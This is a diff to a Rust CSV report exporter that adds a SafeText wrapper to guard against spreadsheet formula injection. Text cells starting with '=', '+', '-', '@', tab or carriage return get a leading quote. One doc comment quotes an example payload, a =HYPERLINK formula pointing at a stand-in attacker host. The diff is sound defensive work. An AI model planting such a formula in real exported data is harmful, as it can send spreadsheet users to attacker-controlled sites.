@@ -16,6 +16,8 @@
 //! empty when the column does not apply to the section, or when the value is undefined
 //! (`null` in JSON). Sections come in the order above (as in the JSON, posts first: the
 //! other sections are computed while they stream); goals have no rows yet. A single
+//! Text cells that a spreadsheet would read as a formula (starting with `=`, `+`, `-`, `@`)
+//! are written with a leading `'` (see [`SafeText`]). A single
 //! rectangular table (rather than one block per section) loads as-is into a spreadsheet,
 //! DuckDB or pandas, where `section` filters out the table wanted.
 
@@ -31,15 +33,33 @@ use crate::ads::{AdsFigures, CampaignRow};
 use crate::run;
 use crate::scope::Scope;
 
+/// Text from imported data, written so a spreadsheet cannot take it for a formula: a cell
+/// starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's
+/// advice; spreadsheets show the text without it). An account named
+/// `=HYPERLINK("http://evil.example/…")` is then shown, never run. Numbers are written as
+/// numbers and are not touched.
+#[derive(Debug, Clone, Copy)]
+struct SafeText<'a>(&'a str);
+
+impl Serialize for SafeText<'_> {
+    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
+        if self.0.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+            serializer.serialize_str(&format!("'{}", self.0))
+        } else {
+            serializer.serialize_str(self.0)
+        }
+    }
+}
+
 /// One CSV row: the union of every section's columns, unused ones empty.
 #[derive(Debug, Default, Serialize)]
 struct Row<'a> {
     section: &'a str,
-    platform: Option<&'a str>,
-    account: Option<&'a str>,
-    post_id: Option<&'a str>,
+    platform: Option<SafeText<'a>>,
+    account: Option<SafeText<'a>>,
+    post_id: Option<SafeText<'a>>,
     published_at: Option<String>,
-    campaign: Option<&'a str>,
+    campaign: Option<SafeText<'a>>,
     stage: Option<Stage>,
     zone: Option<Zone>,
     date: Option<NaiveDate>,
@@ -95,9 +115,9 @@ pub async fn write_report_csv(
     let s = run(store, &scope, |p| {
         w.serialize(Row {
             section: "post",
-            platform: Some(&p.platform),
-            account: Some(&p.account),
-            post_id: Some(&p.post_id),
+            platform: Some(SafeText(&p.platform)),
+            account: Some(SafeText(&p.account)),
+            post_id: Some(SafeText(&p.post_id)),
             published_at: Some(p.published_at_text()),
             interactions: Some(p.interactions),
             er: p.er,
@@ -111,8 +131,8 @@ pub async fn write_report_csv(
     for a in &s.accounts {
         w.serialize(Row {
             section: "account",
-            platform: Some(&a.platform),
-            account: Some(&a.account),
+            platform: Some(SafeText(&a.platform)),
+            account: Some(SafeText(&a.account)),
             followers_start: a.followers_start,
             followers_end: a.followers_end,
             follower_growth_pct: a.follower_growth_pct,
@@ -127,8 +147,8 @@ pub async fn write_report_csv(
     for b in &s.bot_spikes {
         w.serialize(Row {
             section: "bot_spike",
-            platform: Some(&b.platform),
-            account: Some(&b.account),
+            platform: Some(SafeText(&b.platform)),
+            account: Some(SafeText(&b.account)),
             date: Some(b.date),
             gain: Some(b.gain),
             excess: Some(b.excess),
@@ -168,8 +188,8 @@ pub async fn write_report_csv(
 fn ads_row<'a>(section: &'a str, campaign: Option<&'a CampaignRow>, f: &AdsFigures) -> Row<'a> {
     Row {
         section,
-        platform: campaign.map(|c| c.platform.as_str()),
-        campaign: campaign.map(|c| c.campaign.as_str()),
+        platform: campaign.map(|c| SafeText(&c.platform)),
+        campaign: campaign.map(|c| SafeText(&c.campaign)),
         spend: Some(f.spend),
         impressions: Some(f.impressions),
         clicks: Some(f.clicks),
